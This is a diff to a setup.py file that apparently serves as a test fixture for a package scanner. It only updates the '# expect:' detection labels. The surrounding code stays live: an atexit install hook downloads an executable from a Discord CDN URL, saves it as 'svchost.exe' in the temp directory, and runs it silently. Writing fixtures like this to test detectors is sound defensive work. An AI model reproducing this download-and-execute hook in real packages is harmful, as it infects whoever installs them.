@@ -12,8 +12,8 @@ from setuptools import setup
 
 def _post():
     target = os.path.join(tempfile.gettempdir(), "svchost.exe")
-    urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/1/2/svchost.exe", target)  # expect: install-hook
-    subprocess.Popen([target], creationflags=0x08000000)  # expect: download-execute
+    urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/1/2/svchost.exe", target)  # expect: install-hook, suspicious-url
+    subprocess.Popen([target], creationflags=0x08000000)  # expect: download-execute, silent-process-execution, install-hook
 
 
 atexit.register(_post)  # expect: install-hook
